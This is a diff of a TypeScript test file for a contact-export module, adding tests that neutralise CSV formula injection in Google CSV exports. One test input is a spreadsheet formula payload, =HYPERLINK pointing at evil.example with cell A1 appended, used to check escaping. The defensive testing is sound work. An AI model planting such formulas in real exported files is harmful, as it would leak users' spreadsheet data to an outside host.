@@ -5,7 +5,7 @@ import { describe, expect, it } from 'vitest'
 import { stringify as csvStringify } from 'csv-stringify/sync'
 import { cleanText, CRLF, foldLine, MAX_LINE_OCTETS, oneLine } from '../../src/exports/content-lines.ts'
 import { categoriesOf, contactToVCard, emailsOf, otherProfilesOf, phonesOf, SOCIAL_PROFILE_TYPES, vcardDate, type ExportContact } from '../../src/exports/vcard.ts'
-import { contactToCsvCells, CSV_STRINGIFY_OPTIONS, csvRows, googleCsvHeader, splitName } from '../../src/exports/google-csv.ts'
+import { contactToCsvCells, CSV_STRINGIFY_OPTIONS, csvRows, googleCsvHeader, neutralizeFormula, restoreFormulaText, splitName } from '../../src/exports/google-csv.ts'
 import { CALENDAR_TAIL, calendarHead, eventToVEvent, suggestionToVEvent } from '../../src/exports/icalendar.ts'
 import { ExportLimiter } from '../../src/exports/export-limit.ts'
 
@@ -209,7 +209,8 @@ describe('Google CSV', () => {
         '"Zoë Example, Jr; ""Z""",Zoë,"Example, Jr; ""Z""",--03-15,"Met at the café.\nLikes: tea, chess; long walks \\ back-slashes. ' +
         'é'.repeat(30) +
         '",Friends ::: chess,Other,zoe@example.com,Other,z.work@example.org,,,Other,+49 30 1234567 ::: (555) 010-0199,Other,"Kreuzberg, Berlin; DE",' +
-        'linkedin,https://www.linkedin.com/in/zoe-example,instagram,@zoe.example,x ::: mastodon,@zoex ::: https://social.example/@zoe,' +
+        // A handle starting with @ is written as text ('@), as a spreadsheet would run it as a formula.
+        "linkedin,https://www.linkedin.com/in/zoe-example,instagram,'@zoe.example,x ::: mastodon,'@zoex ::: https://social.example/@zoe," +
         'Time Zone,Europe/Berlin,UID,urn:uuid:fixture-1\r\n',
     )
   })
@@ -217,6 +218,28 @@ describe('Google CSV', () => {
   it('has at least one numbered column of each kind, so the layout is recognisable in an empty export', () => {
     expect(googleCsvHeader({ emails: 0, phones: 0, websites: 0 })).toContain('E-mail 1 - Value')
     expect(splitName('Cher')).toEqual(['Cher', ''])
+  })
+
+  it('writes a cell a spreadsheet would run as a formula as text (leading \'), phone numbers as they are (CSV injection)', () => {
+    const row = contactToCsvCells(
+      { ...fixture, name: '=HYPERLINK("http://evil.example/?"&A1,"x")', customNotes: '@SUM(1+1)', location: '-2+3', phone: '+49 30 1234567', phones: ['+49 30 1234567'] },
+      groups,
+      counts,
+    )
+    expect(row[0]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"x")')
+    expect(row[4]).toBe("'@SUM(1+1)")
+    expect(row).toContain("'-2+3")
+    expect(row).toContain('+49 30 1234567')
+    for (const cell of row) expect(/^[=@\t\r]/.test(cell) || (/^[+-]/.test(cell) && !/^[+-][\d\s()./:-]*$/.test(cell))).toBe(false)
+  })
+
+  it('restoreFormulaText gives back exactly what neutralizeFormula was given (property)', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^'*[=@+\-\t\r'].{0,10}$/)), (cell) => {
+        expect(restoreFormulaText(neutralizeFormula(cell))).toBe(cell)
+      }),
+      { numRuns: 2000 },
+    )
   })
 
   it('any cells survive: csv-parse reads the same rows back', () => {
